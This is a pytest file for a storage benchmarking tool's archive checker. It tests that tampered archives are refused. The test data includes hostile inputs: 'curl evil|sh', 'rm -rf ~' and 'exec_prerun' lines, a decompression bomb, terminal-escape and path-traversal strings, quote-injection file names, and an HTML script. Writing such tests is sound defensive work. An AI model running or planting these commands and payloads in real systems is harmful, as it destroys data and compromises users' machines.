"""Archives whose digests are right and whose database is not: refused, named, never a bug.

Who makes such an archive makes the digests inside the database anew as well.
"""

import io
import json
import re
import resource
import sqlite3
import zlib
from contextlib import suppress
from dataclasses import replace
from pathlib import Path

import pytest

from iolab.archive import read, write
from iolab.archive.format import members_of
from iolab.cli.console import Console
from iolab.cli.main import main
from iolab.run.core import load_core
from iolab.run.kept_recordings import copy_of
from iolab.store.schema import SCHEMA_VERSION
from iolab.study.model import RecordingIdentity

COMPARE = [
    *("compare", "--on", "sim:fixed-100us", "--scheduler", "noop,deadline", "--test", "read"),
    *("--record-size", "4k", "--file-size", "1m", "--rounds", "2", "--seed", "7"),
]


def run(*arguments):
    out, err = io.StringIO(), io.StringIO()
    code = main(list(arguments), console=Console(out, err))
    return code, out.getvalue(), err.getvalue()


@pytest.fixture(scope="module")
def packed(tmp_path_factory):
    """An archive of a finished study, made once."""
    folder = tmp_path_factory.mktemp("study")
    code, _, err = run(*COMPARE, "--out", str(folder / "o"))
    assert code == 0, err
    assert run("archive", str(folder / "o"), "--out", str(folder / "o.iolab"))[0] == 0
    return folder / "o.iolab"


@pytest.fixture
def remade(packed, tmp_path, monkeypatch):
    """Return a function that makes ``h.iolab`` with another database and right digests."""
    monkeypatch.chdir(tmp_path)
    monkeypatch.delenv("IOLAB_DEBUG", raising=False)

    def make(content):
        found = read.read_archive(packed)
        contents = {**found.contents, "study.db": content}
        manifest = replace(found.manifest, members=members_of(contents))
        Path("h.iolab").write_bytes(write.pack(manifest, contents))

    return make


@pytest.fixture
def changed(packed, remade, tmp_path, digests_anew):
    """Return a function that runs SQL on the database of the archive."""

    def make(*statements):
        file = tmp_path / "work.db"
        file.write_bytes(read.read_archive(packed).contents["study.db"])
        connection = sqlite3.connect(file)
        for (name,) in connection.execute(
            "SELECT name FROM sqlite_schema WHERE type = 'trigger'"
        ).fetchall():
            connection.execute(f"DROP TRIGGER {name}")
        for statement, *values in statements:
            connection.execute(statement, values)
        with suppress(sqlite3.Error):  # A table is not there any more.
            digests_anew(connection)
        connection.commit()
        connection.close()
        remade(file.read_bytes())
        file.unlink()

    return make


def assert_refused(*messages):
    """`--check` lists it with exit code 5; whatever reads the archive refuses it with 5, too."""
    code, out, err = run("archive", "--check", "h.iolab")
    assert (code, err) == (5, "")
    assert out.startswith("h.iolab is damaged:\n  study.db: ")
    for message in messages:
        assert message in out
    for arguments in (
        ["report", "h.iolab", "--out", "r"],
        ["archive", "--extract", "h.iolab", "--out", "x"],
        ["archive", "--export", "iozone", "h.iolab"],
        ["diff", "h.iolab", "h.iolab"],
        ["gate", "h.iolab", "h.iolab"],
    ):
        code, out, err = run(*arguments)
        assert (code, out) == (5, ""), arguments
        assert "h.iolab is damaged: study.db in it cannot be used: " in err
        assert messages[0] in err
        assert "ask for the file again" in err
    assert [path.name for path in Path().iterdir()] == ["h.iolab"]


def test_what_was_only_packed_again_is_whole(changed):
    changed()
    assert run("archive", "--check", "h.iolab")[0] == 0
    assert run("report", "h.iolab", "--out", "r")[0] == 0


def test_a_record_that_would_fill_the_memory_is_refused(changed):
    packer = zlib.compressobj(9)
    bomb = b"".join(packer.compress(bytes(1 << 20)) for _ in range(256)) + packer.flush()
    changed(("UPDATE record SET record_zlib = ? WHERE record_id = 2", bomb))
    assert_refused("table record, row 2, column record_zlib would unpack to more than 16 MiB")


@pytest.mark.parametrize(
    ("statement", "value", "message"),
    [
        ("UPDATE phase SET workers_json = ?", "[{", "row 1 read, column workers_json is no JSON"),
        ("UPDATE phase SET caveats_json = ?", '[{"a": 1}]', "column caveats_json is not a list"),
        ("UPDATE trial SET levels_json = ?", "[]", "table trial, row t0001, column levels_json"),
        ("UPDATE trial SET levels_json = ?", '{"scheduler": "x"}', "scheduler 'x' is no level"),
        ("UPDATE study SET factors_json = ?", "{" * 9999, "column factors_json is no JSON"),
        ("UPDATE study SET compared_factor = ?", "x", "the compared factor 'x' is none of the"),
        ("UPDATE study SET baseline = ?", "x", "the baseline 'x' is no level"),
        ("UPDATE study SET spec_toml = ?", "metric = 1", "column spec_toml: metric or metric_of"),
        ("UPDATE session SET testbed_json = ?", "1", "table session, row 1, column testbed_json"),
        ("UPDATE record SET record_zlib = ?", b"x", "row 1, column record_zlib cannot be unpacked"),
        ("UPDATE record SET trial_id = ? WHERE record_id = 1", "t9", "in table trial is not there"),
        ("UPDATE study SET margin = ?", 1e300, "the margin 1e+300 is none"),
        ("UPDATE trial SET round = ? WHERE ordinal = 1", 1 << 62, "row t0001: there is no round"),
        ("UPDATE measurement SET value = ?", 1e300, "1e+300 is no measured value"),
        ("DELETE FROM study WHERE ? = ''", "", "table study has no row"),
    ],
)
def test_a_value_that_no_study_holds_is_named(changed, statement, value, message):
    changed((statement, value))
    assert_refused(message)


@pytest.mark.parametrize(
    ("statement", "message"),
    [
        ("DROP TABLE series", "there is no table series"),
        ("ALTER TABLE trial ADD COLUMN more TEXT", "table trial is not the one that iolab makes"),
        ("PRAGMA user_version = 0", "schema 0"),
        ("PRAGMA user_version = -1", "schema -1"),
        ("PRAGMA user_version = 99", f"schema 99, but the tables of schema {SCHEMA_VERSION}"),
        ("PRAGMA application_id = 1", "the tables of a study, and not the mark of one"),
    ],
)
def test_a_database_of_another_shape_is_named(changed, statement, message):
    changed((statement,))
    assert_refused(message)


def test_a_view_in_the_place_of_a_table_is_refused(changed):
    changed(
        ("ALTER TABLE fact RENAME TO other",),
        ("CREATE VIEW fact AS SELECT * FROM other",),
    )
    assert_refused("there is no table fact")


@pytest.mark.parametrize("content", [b"", b"garbage" * 1000, b"SQLite format 3\0" + bytes(8000)])
def test_a_file_that_is_no_database_is_named(remade, content):
    remade(content)
    assert_refused("study.db")


def test_what_integrity_check_finds_is_named(packed, remade):
    body = bytearray(read.read_archive(packed).contents["study.db"])
    page = int.from_bytes(body[16:18], "big")
    for number in range(3, len(body) // page - 1, 3):
        body[number * page : number * page + 64] = bytes(64)
    remade(bytes(body))
    assert_refused("study.db")


def test_a_damaged_directory_names_the_row_too(packed, changed):
    """Not only archives: any store that is read."""
    changed(("UPDATE phase SET workers_json = '[{'",))
    Path("o").mkdir()
    Path("o/study.db").write_bytes(read.read_archive(Path("h.iolab")).contents["study.db"])
    code, out, err = run("report", "o")
    assert (code, out) == (5, "")
    assert "study.db is damaged: table phase, row 1 read, column workers_json is no JSON" in err
    assert err.endswith("put back a copy of the file that was made before that, if there is one\n")


OWNED = "\x1b]0;owned\x07\x9b2J\u202e\nline"


def test_names_of_the_manifest_command_no_terminal(packed, remade):
    remade(b"")  # Changes into an empty directory.
    for content, code in ((read.read_archive(packed).contents["study.db"], 0), (b"", 5)):
        found = read.read_archive(packed)
        contents = {**found.contents, "study.db": content}
        manifest = replace(
            found.manifest,
            members=members_of(contents),
            machine=OWNED,
            iolab_version=OWNED,
        )
        Path("h.iolab").write_bytes(write.pack(manifest, contents))
        for arguments in (
            ["archive", "--check", "h.iolab"],
            ["report", "h.iolab", "--out", f"r{code}"],
            ["diff", "h.iolab", "h.iolab"],
            ["archive", "--export", "iozone", "h.iolab"],
        ):
            found_code, out, err = run(*arguments)
            assert found_code == code or (found_code, code) in ((4, 0),), err
            assert_harmless(out, err)
            assert content == b"" or "owned" in out + err


def test_names_inside_the_database_command_no_terminal(changed):
    note = json.dumps([{"code": OWNED, "message": OWNED, "hint": OWNED}])
    changed(
        ("UPDATE study SET name = ?, testbed = ?, caveats_json = ?", OWNED, OWNED, note),
        ("UPDATE trial SET workload = ?", OWNED),
        ("UPDATE fact SET value = ? || digest", OWNED),
        (
            "UPDATE trial SET levels_json = replace(levels_json, 'noop', ?)",
            json.dumps(OWNED)[1:-1],
        ),
        (
            "UPDATE study SET factors_json = replace(factors_json, 'noop', ?), baseline = ?, "
            "workloads_json = ?",
            *(json.dumps(OWNED)[1:-1], OWNED, json.dumps([OWNED])),
        ),
    )
    told = {}
    for arguments in (
        ["archive", "--check", "h.iolab"],
        ["report", "h.iolab", "--out", "r"],
        ["diff", "h.iolab", "h.iolab"],
        ["diff", "h.iolab", "h.iolab", "--md"],
        ["diff", "h.iolab", "h.iolab", "--json"],
        ["gate", "h.iolab", "h.iolab"],
        ["archive", "--export", "iozone", "h.iolab"],
        ["archive", "--extract", "h.iolab", "--out", "x"],
        ["report", "x", "--out", "s"],
        ["archive", "x", "--out", "again.iolab"],
    ):
        code, out, err = run(*arguments)
        assert code in (0, 1, 4, 5), (arguments, err)
        assert_harmless(out, err)
        told[" ".join(arguments)] = out + err
    assert sum("owned" in text for text in told.values()) >= 5, told


def assert_harmless(out, err):
    assert not any(sign in out + err for sign in "\x1b\x07\x9b\u202e")
    assert not any(line.startswith("line") for line in (out + err).splitlines())


# Values of the right kind that no study holds.


def record_of(packed, number=1):
    """A record of the archive."""
    file = packed.with_name("read.db")
    file.write_bytes(read.read_archive(packed).contents["study.db"])
    connection = sqlite3.connect(file)
    query = "SELECT record_zlib FROM record WHERE record_id = ?"
    (cell,) = connection.execute(query, (number,)).fetchone()
    connection.close()
    return json.loads(zlib.decompress(cell))


def replaced(record, number=1):
    """SQL that puts another record in the place of one."""
    text = record if isinstance(record, str) else json.dumps(record)
    statement = f"UPDATE record SET record_zlib = ? WHERE record_id = {number}"
    return statement, zlib.compress(text.encode())


def histograms(record):
    """Every histogram of a record that has values."""
    return [
        found
        for phase in record["phases"]
        for tenant in phase["tenants"]
        for found in (tenant.get("service") or {}).values()
        if found and found.get("count")
    ]


@pytest.mark.parametrize("index", [1 << 38, 1 << 60, -1, "x", 58 * 128])
def test_an_index_of_a_histogram_is_no_power_of_two_that_fills_the_memory(packed, changed, index):
    record = record_of(packed)
    for found in histograms(record):
        found["counts"], found["count"] = [[index, 100]], 100
    changed(replaced(record))
    assert_refused("table record, row 1, column record_zlib")


@pytest.mark.parametrize(
    "change",
    [
        lambda record: record["phases"][0].pop("name"),
        lambda record: record["phases"][0].update(tenants="abc"),
        lambda record: record["phases"][0].update(elapsed_ns="long"),
        lambda record: record["phases"][0]["tenants"][0].update(workers=[[]]),
        lambda record: record.update(stack="abc"),
        lambda record: record.update(stack={"parameters": "abc"}),
        lambda record: record.update(knobs={"scheduler": 5}),
        lambda record: record.update(facts=[]),
        lambda record: record.update(actions=[{"detail": 1}]),
        lambda record: record.update(warnings=[1]),
    ],
)
def test_a_record_of_other_types_than_promised_is_named(packed, changed, change):
    """`report` ended with a bug, and `--check` had called the archive whole."""
    record = record_of(packed)
    change(record)
    changed(replaced(record))
    assert_refused("table record, row 1, column record_zlib")


def test_slices_that_are_none_are_named(packed, changed):
    record = record_of(packed)
    record["session"] = {}
    record["phases"][0]["tenants"][0]["slices"] = {"a": 1}
    changed(replaced(record), ("UPDATE study SET spec_toml = ? || spec_toml", 'design = "pairs"\n'))
    assert_refused("table record, row 1, column record_zlib")


def test_tables_that_would_fill_the_memory_are_counted_first(packed, changed):
    """Some 7 characters became 230 bytes, and those of all records were kept at once."""
    text = json.dumps(record_of(packed))
    text = text[:-1] + ',"more":[' + ",".join(['{"":0}'] * 200_000) + "]}"
    changed(replaced(text))
    assert_refused("table record, row 1, column record_zlib has more tables than any of ours")


@pytest.mark.parametrize(
    ("statement", "message"),
    [
        ("UPDATE series SET interval_ns = 0", "0 ns are no series"),
        ("UPDATE series SET ops_json = '[1,2,3,4,5,6,7]'", "not as many of each column"),
        ("UPDATE phase SET cache_share = 9e999", "column cache_share: inf is no measured value"),
        ("UPDATE phase SET depth_reached_mean = 1e30", "1e+30 is no measured value"),
        ("UPDATE measurement SET value = 1e-300", "1e-300 is no measured value"),
        ("UPDATE study SET spec_toml = 'looks = ''x'''", "looks or rounds is no number"),
        ("UPDATE study SET spec_toml = 'command = [''run'']'", "'run' is not a dialect"),
    ],
)
def test_a_value_that_readers_cannot_bear_is_named(changed, statement, message):
    changed((statement,))
    assert_refused(message)


def test_a_long_series_is_refused(changed):
    """The search for the end of its warm-up took as many steps as the square of its length."""
    text = json.dumps([1] * 5000)
    changed(
        ("UPDATE series SET ops_json = ?, bytes_json = ?, latency_ns_max_json = ?", *[text] * 3)
    )
    assert_refused("5000 slices of 100000000 ns are no series")


def test_a_short_interval_is_no_silence_of_gigabytes(changed):
    """A second in slices of a nanosecond was filled up with a thousand million zeros."""
    changed(
        ("UPDATE series SET interval_ns = 1",),
        ("UPDATE phase SET workers_json = replace(workers_json, ?, ?)", 'ns":', 'ns":9999'),
    )
    assert_refused("table series, row 1 read: what is stored is not what its record gives")
    Path("o").mkdir()
    Path("o/study.db").write_bytes(read.read_archive(Path("h.iolab")).contents["study.db"])
    before_kib = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    assert run("report", "o")[0] == 0
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before_kib < 300 << 10


def test_a_metric_of_a_newer_iolab_has_no_unit(changed):
    changed(("INSERT INTO measurement SELECT record_id, operation, 'newer', 9 FROM phase",))
    assert run("report", "h.iolab", "--out", "r")[0] == 0


@pytest.mark.parametrize(
    "name", ["x/../../TRAV", "/../../TRAV", "t1/x", "", "t", "t1\n", "t\u0661"]
)
def test_no_trial_is_named_like_a_path(packed, changed, tmp_path, name):
    """`--export fio --out DIR` wrote outside of DIR."""
    changed(
        ("PRAGMA foreign_keys = OFF",),
        ("UPDATE record SET trial_id = ? WHERE trial_id = 't0001'", name),
        ("UPDATE trial SET trial_id = ? WHERE trial_id = 't0001'", name),
    )
    assert_refused("is no name of a trial")
    database = read.read_archive(Path("h.iolab")).contents["study.db"]
    place = tmp_path / "d" / "o"
    place.mkdir(parents=True)
    (place / "study.db").write_bytes(database)
    out = tmp_path / "d" / "p" / "q"
    code, _, err = run("archive", "--export", "fio", str(place), "--out", str(out))
    assert (code, out.exists()) == (5, False), err
    assert sorted(path.name for path in (tmp_path / "d").iterdir()) == ["o"]


# Commands that are told, and what stands in them.

SPEC = """
testbed = "sim:fixed-100us"
[[workloads]]
name = "again"
dialect = "fio"
command = "--name=a --rw=read --size=1m"
recordings = [{{file = {file}, size_bytes = {size}, digest = {digest}}}]
"""
STREAM = "iolab recorded stream 1\n0 write 0 0 8192\n"


@pytest.fixture
def with_recording(changed):
    """Return a function that makes the directory ``o`` of a study that wants a recording."""

    def make(file, digest=None, content=STREAM):
        folder = Path("o/recordings")
        folder.mkdir(parents=True)
        (folder / "copy").write_text(content)
        known = json.loads(load_core().recording_identity(str(folder / "copy")))
        digest = digest or known["digest"]
        spec = SPEC.format(
            file=json.dumps(file), size=known["file_bytes"], digest=json.dumps(digest)
        )
        changed(("UPDATE study SET spec_toml = ?", spec))
        Path("o/study.db").write_bytes(read.read_archive(Path("h.iolab")).contents["study.db"])
        identity = RecordingIdentity(file, known["file_bytes"], digest)
        (folder / "copy").rename(copy_of(Path("o"), identity))
        code, _, err = run("run", "o", "--resume")
        assert code == 1, err
        return " ".join(err.split())

    return make


@pytest.mark.parametrize("place", ["{}/.bash_login", "{}/sub/.config/x", "/etc/cron.d/x", "../x"])
def test_no_command_puts_a_strangers_file_where_it_is_obeyed(with_recording, tmp_path, place):
    """`mkdir -p ... && cp ... ~/.bash_login` was told of a study that somebody had sent."""
    told = with_recording(place.format(tmp_path))
    assert "the recording" in told
    assert "cp " not in told
    assert "ln -s" not in told
    assert "look at it before you put it there" in told


def test_what_is_not_the_recording_is_no_copy_of_it(with_recording, tmp_path):
    told = with_recording(f"{tmp_path}/trace.log", digest="0123456789abcdef")
    assert "a copy" not in told
    assert f"`ln -s WHERE {tmp_path}/trace.log`" in told


def test_a_copy_is_put_back_by_a_command_with_quotes(with_recording, tmp_path):
    told = with_recording(f"{tmp_path}/it's; x")
    assert f"""'{tmp_path}/it'"'"'s; x'`""" in told
    command = told.rpartition("a copy lies with the results: `")[2].partition("`")[0]
    assert command.startswith("cp o/recordings/")


# What an archive says beside its database.

EVIL = b"<!doctype html><script>alert('x')</script><h1>bfq is 900 % faster</h1>"


@pytest.fixture
def with_members(packed, tmp_path, monkeypatch):
    """Return a function that makes ``h.iolab`` with other members and right digests."""
    monkeypatch.chdir(tmp_path)

    def make(members=None, **told):
        found = read.read_archive(packed)
        contents = {**found.contents, **(members or {})}
        manifest = replace(found.manifest, members=members_of(contents), **told)
        Path("h.iolab").write_bytes(write.pack(manifest, contents))

    return make


def test_a_page_that_somebody_wrote_is_not_believed_and_made_anew(with_members, packed):
    """`--extract` wrote a script as the report, and listed it as iolab's own."""
    forged = {
        "report.html": EVIL,
        "report.xlsx": b"PK evil",
        "verdict.json": b'{"a": 1}',
        "README.txt": b"run: curl evil|sh\n",
        "facts.json": b"{}",
        "commands/iozone.sh": b"rm -rf ~",
        "commands/trial-t0001.fio": b"exec_prerun=rm -rf ~",
        "commands/trial-t9999.fio": b"exec_prerun=rm -rf ~",
    }
    with_members(forged)
    code, out, err = run("archive", "--check", "h.iolab")
    assert (code, err) == (0, "")
    assert "h.iolab is whole" not in out
    assert f"Do not believe {', '.join(sorted(forged))}: " in out
    code, out, err = run("archive", "--extract", "h.iolab", "--out", "x")
    assert code == 0, err
    assert "made anew or left out" in err
    whole = read.read_archive(packed).contents
    assert {str(p.relative_to("x")) for p in Path("x").rglob("*") if p.is_file()} == {
        *whole,
        ".iolab-made",
    }
    for name, content in whole.items():
        assert (Path("x") / name).read_bytes() == content, name


def test_an_archive_of_the_same_iolab_is_whole_and_comes_back_as_it_is(with_members):
    with_members()
    code, out, err = run("archive", "--check", "h.iolab")
    assert (code, err) == (0, "")
    assert out.startswith("h.iolab is whole: ")
    assert "believe" not in out
    assert run("archive", "--extract", "h.iolab", "--out", "x")[2] == ""


@pytest.mark.parametrize("name", ["commands/run.sh", "commands/x.fio", "commands/trial-x.fio"])
def test_a_command_that_the_exporter_does_not_write_is_refused(with_members, monkeypatch, name):
    monkeypatch.setattr(write, "MEMBER_NAME", re.compile(".*"))
    with_members({name: b"rm -rf ~"})
    code, out, err = run("archive", "--check", "h.iolab")
    assert (code, out) == (1, "")
    assert "is no name of a member; iolab makes no such archive" in err


def test_another_question_than_that_of_the_database_is_damage(with_members):
    with_members({"study.toml": b'command = ["fio", "--filename=/dev/sda", "--rw=write"]\n'})
    code, out, err = run("archive", "--check", "h.iolab")
    assert (code, err) == (5, "")
    assert "study.toml is not what the study in study.db names" in out


@pytest.mark.parametrize("what", ["study_name", "study_id"])
def test_a_manifest_of_another_study_is_damage(with_members, what):
    with_members(**{what: "other"})
    assert_refused(f"the manifest says {what} 'other', and the database '")


@pytest.mark.parametrize(
    ("statement", "message"),
    [
        ("UPDATE measurement SET value = value * 9", "table measurement, row 1 read"),
        ("UPDATE measurement SET value = value * 1.01", "table measurement, row 1 read"),
        ("UPDATE phase SET cache_share = 0.5", "column cache_share"),
        (
            "UPDATE series SET bytes_json = replace(bytes_json, '4', '5')",
            "table series, row 1 read",
        ),
        ("UPDATE record SET elapsed_ns = elapsed_ns + 1", "table record, row 1"),
    ],
)
def test_a_value_that_its_record_does_not_give_is_named(changed, statement, message):
    """Values nine times as large as their records say gave "9.0 times as fast"."""
    changed((statement,))
    assert_refused(message, "what is stored is not what its record gives")
